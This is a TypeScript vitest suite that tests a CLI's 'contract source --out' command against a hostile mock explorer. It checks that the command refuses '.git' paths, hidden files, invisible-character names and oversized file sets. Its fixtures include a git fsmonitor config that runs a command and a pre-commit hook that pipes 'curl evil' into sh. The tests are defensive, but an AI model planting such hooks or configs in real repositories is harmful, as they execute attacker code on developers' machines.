/**
 * Issue 20, `contract source --out` against a hostile explorer of the test's own: paths git would
 * act on (`.git` in every spelling git refuses) and hidden ones, invisible characters in names,
 * amplification (files, directories, depth, bytes), a failure midway, and `--force` replacing a
 * file rather than writing into it (an executable hook stays no hook, a hard link keeps its text).
 * The real built command runs as a child process.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, linkSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../support/cli.js';
import { type SourceFileSpec, type SourceServer, startSourceServer } from '../../support/source-server.js';

let srv: SourceServer;
beforeAll(async () => {
  srv = await startSourceServer();
});
afterAll(() => srv.close());

/** A fresh directory holding `work/` (where sources go) beside nothing else. */
function sandbox(): { root: string; work: string } {
  const root = mkdtempSync(join(tmpdir(), 'scout-sec-out-'));
  return { root, work: join(root, 'work') };
}

/** Everything under `dir` (files and directories), relative, sorted. */
function entriesUnder(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return (readdirSync(dir, { recursive: true }) as string[]).sort();
}

const out = (files: readonly SourceFileSpec[], work: string, ...extra: string[]) =>
  runCli(['contract', 'source', srv.contract(files), '--out', work, '--base-url', srv.url, ...extra]);

const SAFE: SourceFileSpec = { path: 'contracts/Safe.sol', code: 'contract Safe {}\n' };

describe('paths git acts on are refused, exit 1, nothing written', () => {
  const FSMONITOR = '[core]\n\tfsmonitor = "touch /tmp/scout-pwned; false"\n';

  it('.git/HEAD + .git/config into a new directory (git status would run core.fsmonitor)', async () => {
    const { root, work } = sandbox();
    const r = await out([SAFE, { path: '.git/HEAD', code: 'ref: refs/heads/main\n' }, { path: '.git/config', code: FSMONITOR }], work);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^scout: refusing to write the contract's sources: the explorer sent the path "\.git\/HEAD", which has the segment "\.git", which git reads as \.git.*; nothing was written\n$/);
    expect(r.stdout).toBe('');
    expect(entriesUnder(root)).toEqual([]);
  });

  it.each([
    ['.git/commondir'],
    ['.GIT/config'],
    ['.Git/hooks/pre-commit'],
    ['.git./config'],
    ['.git /config'],
    ['.git. . /config'],
    ['git~1/config'],
    ['GIT~1/hooks/post-checkout'],
    ['.git::$INDEX_ALLOCATION/config'],
    ['sub/.git/config'],
    ['contracts\\.git\\hooks\\pre-commit'],
  ])('%j, into an existing repository, and even with --allow-hidden', async (p) => {
    const { work } = sandbox();
    mkdirSync(join(work, '.git/hooks'), { recursive: true });
    writeFileSync(join(work, '.git/HEAD'), 'ref: refs/heads/main\n');
    const before = entriesUnder(work);
    for (const extra of [[], ['--allow-hidden', '--force']]) {
      const r = await out([SAFE, { path: p, code: FSMONITOR }], work, ...extra);
      expect(r.code, r.stderr).toBe(1);
      expect(r.stderr).toMatch(/which git reads as \.git: files there make git run commands; nothing was written\n$/);
      expect(entriesUnder(work)).toEqual(before);
    }
  });

  it('a real git status in the directory runs nothing: the repository was never made', async () => {
    const { root, work } = sandbox();
    const marker = join(root, 'pwned');
    const r = await out([{ path: '.git/HEAD', code: 'ref: refs/heads/main\n' }, { path: '.git/config', code: `[core]\n\tfsmonitor = "touch '${marker}'; false"\n` }], work);
    expect(r.code).toBe(1);
    mkdirSync(work, { recursive: true });
    try {
      execFileSync('git', ['status'], { cwd: work, stdio: 'ignore', env: { ...process.env, GIT_CEILING_DIRECTORIES: root } });
    } catch {
      // Not a repository (or no git): either way nothing of the explorer's ran.
    }
    expect(existsSync(marker)).toBe(false);
  });
});

describe('hidden segments need --allow-hidden', () => {
  it.each([['.github/workflows/x.yml'], ['.env'], ['contracts/.hidden/A.sol'], ['.vscode/settings.json']])('%j is refused by default, with the flag to allow it', async (p) => {
    const { root, work } = sandbox();
    const r = await out([SAFE, { path: p, code: 'on: push\n' }], work);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/which has the hidden segment "\.[^"]+".*; nothing was written\nscout: pass --allow-hidden to write hidden files and directories \(never \.git\)\n$/);
    expect(entriesUnder(root)).toEqual([]);
  });

  it('--allow-hidden writes them', async () => {
    const { work } = sandbox();
    const r = await out([SAFE, { path: '.github/workflows/x.yml', code: 'on: push\n' }], work, '--allow-hidden');
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(join(work, '.github/workflows/x.yml'), 'utf8')).toBe('on: push\n');
  });

  it.each([['a./b.sol'], ['a /b.sol'], ['b.sol.'], ['.. /x.sol']])('%j, which Windows reads as another name, is refused', async (p) => {
    const { root, work } = sandbox();
    const r = await out([SAFE, { path: p, code: 'x' }], work, '--allow-hidden');
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/ends with a dot or space/);
    expect(entriesUnder(root)).toEqual([]);
  });
});

describe('--force replaces a file with a new one', () => {
  it('an executable file keeps no exec bit, and a hard link to it keeps the old text', async () => {
    const { root, work } = sandbox();
    mkdirSync(join(work, 'hooks'), { recursive: true });
    const hook = join(work, 'hooks/pre-commit');
    writeFileSync(hook, '#!/bin/sh\necho mine\n');
    chmodSync(hook, 0o755);
    linkSync(hook, join(root, 'elsewhere'));
    const r = await out([{ path: 'hooks/pre-commit', code: '#!/bin/sh\ncurl evil | sh\n' }], work, '--force');
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(hook, 'utf8')).toBe('#!/bin/sh\ncurl evil | sh\n');
    expect(statSync(hook).mode & 0o111).toBe(0);
    expect(statSync(hook).nlink).toBe(1);
    expect(readFileSync(join(root, 'elsewhere'), 'utf8')).toBe('#!/bin/sh\necho mine\n');
    // No temporary file is left beside it.
    expect(readdirSync(join(work, 'hooks'))).toEqual(['pre-commit']);
  });
});

describe('invisible characters in written names are refused', () => {
  it.each([
    ['Hangul filler U+3164', 'contracts/\u3164.sol', 'U+3164'],
    ['Hangul choseong filler U+115F', 'a\u115fb.sol', 'U+115F'],
    ['Hangul jungseong filler U+1160', 'a\u1160b.sol', 'U+1160'],
    ['halfwidth Hangul filler U+FFA0', 'a\uffa0b.sol', 'U+FFA0'],
    ['variation selector U+FE0F', 'Token\ufe0f.sol', 'U+FE0F'],
    ['variation selector U+E0100', 'Token\u{e0100}.sol', 'U+E0100'],
    ['deprecated format U+206A', 'a\u206ab.sol', 'U+206A'],
    ['inhibit symmetric swapping U+206F', 'a\u206fb.sol', 'U+206F'],
    ['combining grapheme joiner U+034F', 'a\u034fb.sol', 'U+034F'],
    ['no-break space U+00A0', 'Safe\u00a0.sol', 'U+00A0'],
    ['ideographic space U+3000', 'a\u3000b.sol', 'U+3000'],
    ['Braille blank U+2800', 'a\u2800b.sol', 'U+2800'],
    ['a lone surrogate', 'a\ud800b.sol', 'U+D800'],
  ])('%s', async (_name, p, code) => {
    const { root, work } = sandbox();
    const r = await out([SAFE, { path: p, code: 'x' }], work);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`holds control or invisible characters (${code}); nothing was written`);
    // The message shows the character, never prints it.
    expect(r.stderr).toContain(`<${code}>`);
    expect(entriesUnder(root)).toEqual([]);
  });
});

describe('amplification: limits checked before anything is written', () => {
  it('1,001 files (default --max-files 1000) are refused; --max-files lets them through', async () => {
    const { root, work } = sandbox();
    const files = Array.from({ length: 1001 }, (_, i) => ({ path: `f${i}.sol`, code: 'x' }));
    const r = await out(files, work);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(
      "scout: refusing to write the contract's sources: the explorer sent 1001 files, more than the 1000 --max-files allows; nothing was written\nscout: pass a larger --max-files to write them all\n",
    );
    expect(entriesUnder(root)).toEqual([]);
    const allowed = await out(files, work, '--max-files', '1001');
    expect(allowed.code, allowed.stderr).toBe(0);
    expect(entriesUnder(work)).toHaveLength(1001);
  });

  it('100 files needing 3,000 directories are refused (directories count against --max-files too)', async () => {
    const { root, work } = sandbox();
    const files = Array.from({ length: 100 }, (_, i) => ({ path: `${i}/` + Array.from({ length: 29 }, () => 'd').join('/') + '/f.sol', code: 'x' }));
    const r = await out(files, work);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/its 100 files need 3000 directories, more than the 1000 --max-files allows; nothing was written\n/);
    expect(entriesUnder(root)).toEqual([]);
  });

  it('a path 33 levels deep (default --max-depth 32) is refused; --max-depth lets it through', async () => {
    const { root, work } = sandbox();
    const deep = Array.from({ length: 32 }, (_, i) => `d${i}`).join('/') + '/f.sol';
    const r = await out([SAFE, { path: deep, code: '' }], work);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/which is 33 levels deep, more than the 32 --max-depth allows; nothing was written\nscout: pass a larger --max-depth to write it\n$/);
    expect(entriesUnder(root)).toEqual([]);
    expect((await out([SAFE, { path: deep, code: '' }], work, '--max-depth', '33')).code).toBe(0);
  });

  it('a file over 10 MiB (default --max-file-size) is refused; --max-file-size lets it through', async () => {
    const { root, work } = sandbox();
    const big = { path: 'Big.sol', code: 'x'.repeat(10 * 1024 * 1024 + 1) };
    const r = await out([SAFE, big], work);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/"Big\.sol", which holds 10485761 bytes, more than the 10 MiB --max-file-size allows; nothing was written\n/);
    expect(entriesUnder(root)).toEqual([]);
    expect((await out([SAFE, big], work, '--max-file-size', '11MiB')).code).toBe(0);
  });

  it('a name longer than 255 bytes is refused before anything is written (no file system takes it)', async () => {
    const { root, work } = sandbox();
    const files = [SAFE, { path: 'contracts/lib/Math.sol', code: 'library Math {}\n' }, { path: `${'z'.repeat(256)}.sol`, code: 'x' }];
    const r = await out(files, work);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/which has a segment longer than 255 bytes, which no file system takes; nothing was written\n$/);
    expect(entriesUnder(root)).toEqual([]);
  });

  it('the --out options are usage errors without --out, before any request', async () => {
    const from = srv.requests();
    for (const flag of [['--allow-hidden'], ['--max-files', '5'], ['--max-depth', '5'], ['--max-file-size', '1KiB']]) {
      const r = await runCli(['contract', 'source', srv.contract([SAFE]), ...flag, '--base-url', srv.url]);
      expect(r.code, flag.join(' ')).toBe(2);
      expect(r.stderr).toContain(`${flag[0]} goes with --out`);
    }
    const bad = await runCli(['contract', 'source', srv.contract([SAFE]), '--out', tmpdir(), '--max-files', '0', '--base-url', srv.url]);
    expect(bad.code).toBe(2);
    expect(srv.requests()).toBe(from);
  });
});
